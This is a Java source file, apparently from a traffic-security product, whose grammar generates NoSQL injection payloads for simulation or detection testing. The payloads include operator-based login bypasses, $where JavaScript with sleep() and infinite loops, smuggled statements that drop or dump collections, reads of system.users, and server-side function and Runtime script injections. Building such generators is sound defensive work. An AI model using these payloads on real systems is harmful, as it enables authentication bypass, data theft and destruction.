package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Operators and functions that a document database takes for part of the query. */
final class DocumentQuery {

    private static final Grammar GRAMMAR = Vocabulary.GRAMMAR.extend(
            """
            field ::=
              username
              password
              user
              pass
              login
              email
              id
              _id
              token
              role
              name
              code
              «word»
              «letters 2..8»
            literal ::=
              3×null
              2×""
              "«letters 1..6»"
              «-1¦0¦1»
              «2..9999»
              true
              false
              []
              {}
              "«user»"
            pattern ::=
              3×.*
              ^«alnum 1..4»«?.*»
              ^
              .{«1..40»}
              «letters 1..2».*
              ^(?=«letters 1..4»)
              ^[a-z]
              «word»|«word»
              $
              (?i)«user»
            condition ::=
              6×"$ne":«literal»
              5×"$gt":«""¦«literal»»
              3×"$regex":"«pattern»"
              2×"$exists":«true¦false»
              "$«gte¦lt¦lte¦eq»":«literal»
              2×"$«in¦nin»":["«user»"«0..3×,"«word»"»]
              "$not":{«condition»}
              "$regex":"«pattern»","$options":"«i¦s¦is»"
              "$ne":«literal»,"$gt":«literal»
              "$type":«1..18»
              "$size":«0..9»
              "$mod":[«2..9»,«0..2»]
              "$all":["«word»"]
              "$elemMatch":{«condition»}
            operator ::=
              8×{«condition»}
              «object»
              {"$or":[{},{"«letters 1..3»":"«letters 1..3»"}]}
              {"$or":[{"«field»":{«condition»}},{"«field»":{«condition»}}]}
              {"$«and¦nor»":[{"«field»":{«condition»}}]}
              {"$comment":"«word»","$ne":«literal»}
              {"$expr":{"$«eq¦gt¦ne»":["$«field»","$«field»"]}}
            object ::=
              5×{"«field»":{«condition»},"«field»":{«condition»}}
              3×{"«field»":"«user»","«field»":{«condition»}}
              2×{"«field»":{«condition»}}
              {"$where":"«javascript»"}
              {"$or":[{"«field»":"«user»"},{"«field»":{«condition»}}],"«field»":{«condition»}}
              {"«field»":{«condition»},"$where":"«javascript»"}
              {"query":{"«field»":{«condition»}},"limit":«1..999»}
              {"selector":{"«field»":{«condition»}},"fields":["«field»"]}
              {"filter":{"where":{"«field»":{"«neq¦like¦regexp¦gt¦inq»":«literal»}}}}
            pair ::=
              6×«field»[$ne]=«?«word»»
              3×«field»[$gt]=«?«0..9»»
              3×«field»[$regex]=«pattern»
              2×«field»[$exists]=«true¦false¦1»
              2×«field»[$«in¦nin»][«?«0..3»»]=«word»
              «field»[$«lt¦gte¦lte¦eq¦type¦size»]=«0..99»
              «field»[$not][$«ne¦gt¦exists»]=«word»
              $where=«javascript»
              «field»[$where]=«javascript»
              $or[«0..3»][«field»][$ne]=«word»
              «field»[$regex]=«pattern»&«field»[$options]=i
              «field»[%24«ne¦gt¦regex»]=«word»
              filter[where][«field»][«neq¦like¦regexp¦gt»]=«word»
            pairs ::=
              3×«pair»
              4×«pair»&«pair»
              2×«field»=«user»&«pair»
              «field»=«value»&«pair»&«pair»
            javascript ::=
              3×return «true¦1¦this.«field»!=null¦this.«field».length>«0..9»»
              2×sleep(«1..9»000)«?||true»
              this.«field».match(/«pattern»/)
              2×this.«field»=='«user»'«?||'«x:=letters 1..3»'=='«=x»'»
              function(){return «true¦1==1¦this.«field»!='«word»'¦sleep(«1..9»000)»«?;»}
              «1..9»==«1..9»
              while(«true¦1»){}
              var d=new Date();do{c=new Date()}while(c-d<«1..9»000);
              tojson(db.«users¦getCollectionNames()¦system.users.find()»)
              Object.keys(this)[«0..5»].match('^«letters 1..1».*')
            where ::=
              4×«?«word»»«q:=\\'¦'¦"» «||¦&&» «=q»«x:=«1..999»¦«letters 1..3»»«=q»«==¦===¦==»«=q»«=x»
              3×«?«word»»'«;¦; »«javascript»;«?var «letters 1..2»='»«?//»
              3×«?«word»»«'¦"¦» || «javascript» «?//»«?%00»
              2×«?«word»»'«;¦»«return true¦sleep(«1..9»000)¦while(1)¦throw new Error()»«;var «name»='¦}//¦;//»
              «?«word»»' && this.«field».match(/«pattern»/)«//¦%00¦«nul»»
              «javascript»
              2×«1..99»'«});¦);¦}));»«javascript»;«({¦({'¦//»
              «?«word»»', $or: [ {}, { '«x:=letters 1..2»':'«=x»
              «?«word»», $where: '1 == 1'
              «?«word»»'}, $or: [ {'«field»': {$ne: '«word»'}}], '«field»': {$gt: '
              db.«users¦«field»¦getCollection('«word»')».«find¦insert¦drop¦remove¦findOne»(«{}¦{$where:"«javascript»"}¦»)«?;»
              «?«word»»';db.«word».«drop()¦insert({«field»:'«word»'})¦find()»;//
              «1..99»;«return true¦sleep(«1..9»000)»
              «?«word»»\\';«javascript»;//
              {$«gt¦ne¦regex»: «''¦null¦'«pattern»'»}
              [$«ne¦gt¦regex»]=«word»
              true, $where: '«javascript»'
              «?«word»»'||(function(){«javascript»})()||'
              {«field»: {$ne: «'«word»'¦null»}}
            pipeline ::=
              2×{"aggregate":"«word»","pipeline":[{"$lookup":{"from":"«users¦admin¦«word»»","localField":"«field»","foreignField":"«field»","as":"«name»"}}]}
              2×{"mapreduce":"«word»","map":"function(){«emit(this.«field»,1)¦for(var k in this)emit(k,null)¦«javascript»»}","reduce":"function(k,v){return «1..9»}","out":"«name»"}
              {"pipeline":[{"$match":{"«field»":{"$exists":true}}},{"$out":"«name»"}]}
              {"$function":{"body":"function(){«javascript»}","args":["$«field»"],"lang":"js"}}
              {"$accumulator":{"init":"function(){«javascript»}","accumulate":"function(){}","merge":"function(){}","lang":"js"}}
              {"pipeline":[{"$unionWith":{"coll":"«users¦system.users¦«word»»"}},{"$project":{"«field»":1}}]}
              {"$eval":"«javascript»"}
              {"pipeline":[{"$facet":{"«name»":[{"$lookup":{"from":"«word»","pipeline":[],"as":"«name»"}}]}}]}
              {"$group":{"_id":"$«field»","«name»":{"$push":"$$ROOT"}}}
              {"script":{"lang":"«painless¦groovy»","source":"«java.lang.Runtime¦doc['«field»'].value»"}}
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            family("nosql_operator", "operator")
                    .in(
                            Placement.JSON_VALUE,
                            Placement.JSON_VALUE,
                            Placement.QUERY,
                            Placement.FORM,
                            Placement.COOKIE,
                            Placement.JSON_IN_FORM,
                            Placement.JSON),
            family("nosql_document", "object").in(Placement.JSON_BODY, Placement.JSON_BODY, Placement.QUERY),
            family("nosql_parameter", "pairs").in(Placement.QUERY_PAIRS, Placement.QUERY_PAIRS, Placement.FORM_PAIRS),
            family("nosql_where", "where")
                    .in(
                            Placement.QUERY,
                            Placement.QUERY,
                            Placement.FORM,
                            Placement.JSON,
                            Placement.PATH,
                            Placement.GRAPHQL,
                            Placement.COOKIE,
                            Placement.XML_LEAF),
            family("nosql_pipeline", "pipeline")
                    .in(Placement.JSON_BODY, Placement.JSON_VALUE, Placement.QUERY)
                    .reservedForSimulation());

    private DocumentQuery() {}

    private static AttackFamily family(String name, String rule) {
        return AttackFamily.of(name, ThreatType.NOSQL_INJECTION, GRAMMAR.from(rule));
    }
}
